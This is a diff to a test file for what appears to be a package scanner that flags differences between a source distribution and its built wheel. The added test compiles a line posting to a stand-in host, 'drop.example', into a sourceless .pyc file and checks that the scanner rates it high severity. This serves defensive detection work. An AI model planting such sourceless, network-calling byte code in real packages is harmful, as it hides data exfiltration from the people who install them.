@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import importlib.util
 import io
+import marshal
 from collections.abc import Mapping
 from dataclasses import replace
 
@@ -106,6 +108,15 @@ class TestAlarm:
         source = {"imgpress/__init__.py": QUIET}
         (found,) = between(source, {**source, "imgpress/core.pyc": b"\xcb\r\r\n"})
         assert told([found]) == ["medium: its wheel holds byte code without its source, imgpress/core.pyc"]
+
+    def test_byte_code_without_its_source_that_can_do_something(self) -> None:
+        code = compile("import requests; requests.post('https://drop.example/')", "core.py", "exec")
+        written = importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code)
+        (found,) = between(
+            {"imgpress/__init__.py": QUIET}, {"imgpress/__init__.py": QUIET, "imgpress/core.pyc": written}
+        )
+        assert found.severity == "high"
+        assert places(found) == ["imgpress/core.pyc:1"]
 
     def test_what_the_old_wheel_held_as_well_is_not_new(self) -> None:
         source, built = sdist({"imgpress/__init__.py": QUIET}), wheel({"imgpress/_compat.py": SENDS})
